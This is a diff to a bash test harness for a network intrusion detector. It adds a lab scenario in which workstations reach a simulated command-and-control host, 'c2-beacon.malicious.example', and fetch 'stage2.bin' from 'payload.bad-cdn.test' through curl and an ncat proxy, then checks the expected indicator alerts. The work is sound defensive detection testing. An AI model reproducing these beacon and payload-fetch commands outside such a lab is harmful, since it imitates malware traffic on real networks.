@@ -45,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap ftp-files mail-files mail-out)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap ftp-files mail-files mail-out intel-direct)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -1688,6 +1688,42 @@ EOF2
     {"rule": "smtp.executable_attachment", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"protocol": "IMAP", "file_name": "invoice.exe"}}]' \
     '  "exclusive": true,
   "allow": ["device.new"]'
+}
+
+scenario_intel_direct() {
+  local tls="$WORK/intel-direct-tls"
+  mkdir -p "$tls"
+  printf 'stage two\n' >"$WORK/www/stage2.bin"
+  # A self-signed certificate naming the listed c2-beacon.malicious.example (lab fixture).
+  openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=c2-beacon.malicious.example" \
+    -keyout "$tls/key.pem" -out "$tls/cert.pem" 2>/dev/null
+  scen_bg inet openssl s_server -quiet -accept 8443 -cert "$tls/cert.pem" -key "$tls/key.pem" -www
+  # A web proxy on the server 10.77.1.10 (it resolves names through the lab DNS).
+  scen_bg srv ncat -lk 3128 --proxy-type http
+  wait_listen inet 8443 && wait_listen srv 3128
+  # 10.77.2.21: TLS to a listed name from a hard-coded address (curl --resolve: no DNS lookup), SNI in clear.
+  nsx ws21 curl -s -o /dev/null -k --noproxy '*' --max-time 5 --resolve c2-beacon.malicious.example:8443:203.0.113.66 \
+    https://c2-beacon.malicious.example:8443/
+  # 10.77.2.22: TLS 1.2 to a bare address, no SNI; the certificate names the listed host.
+  nsx ws22 curl -s -o /dev/null -k --noproxy '*' --max-time 5 --tls-max 1.2 https://198.51.100.10:8443/
+  # 10.77.2.23: a listed URL through the proxy (absolute URI); 10.77.2.20: a CONNECT to a listed name.
+  nsx ws23 curl -s -o /dev/null --max-time 5 -x http://10.77.1.10:3128 http://payload.bad-cdn.test:8080/stage2.bin
+  nsx ws20 curl -s -o /dev/null -k --max-time 5 -x http://10.77.1.10:3128 https://c2-beacon.malicious.example:8443/
+  stop_capture
+  require intel-direct 1 "tcp dst port 8443 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
+  require intel-direct 1 "tcp dst port 8443 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
+  require intel-direct 1 "tcp dst port 3128 and src host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
+  require intel-direct 1 "tcp dst port 3128 and src host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
+  require intel-direct 1 "udp dst port 53 and src host 10.77.1.10"
+  expect intel-direct "Listed names reached without a client's own DNS lookup (indicators in ../intel-fixtures.md; curl 7.88, openssl s_server on the Internet host's 8443 with a self-signed certificate for CN=c2-beacon.malicious.example, ncat's HTTP proxy on 10.77.1.10:3128). 10.77.2.21: TLS 1.3 to c2-beacon.malicious.example at 203.0.113.66 (curl --resolve, SNI in clear); 10.77.2.22: TLS 1.2 to 198.51.100.10 by address (no SNI; the certificate names the listed host); 10.77.2.23: GET http://payload.bad-cdn.test:8080/stage2.bin through the proxy (a listed URL too); 10.77.2.20: CONNECT c2-beacon.malicious.example:8443 through the proxy. Only the proxy looks names up. The indicator rules need the fixture lists (test/detect/net.bad_name.test.ts and http.bad_url.test.ts load them)." \
+    '[]' '  "matches": [
+    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.21"}, "where": "ssl.server_name"},
+    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.22"}, "where": "x509.common_name"},
+    {"kind": "domain", "indicator": "payload.bad-cdn.test", "source": {"ip": "10.77.2.23"}, "where": "http.uri"},
+    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.2.20"}, "where": "http.connect"},
+    {"kind": "domain", "indicator": "payload.bad-cdn.test", "source": {"ip": "10.77.1.10"}, "where": "dns.query"},
+    {"kind": "domain", "indicator": "c2-beacon.malicious.example", "source": {"ip": "10.77.1.10"}, "where": "dns.query"}
+  ]'
 }
 
 scenario_ftp_files() {
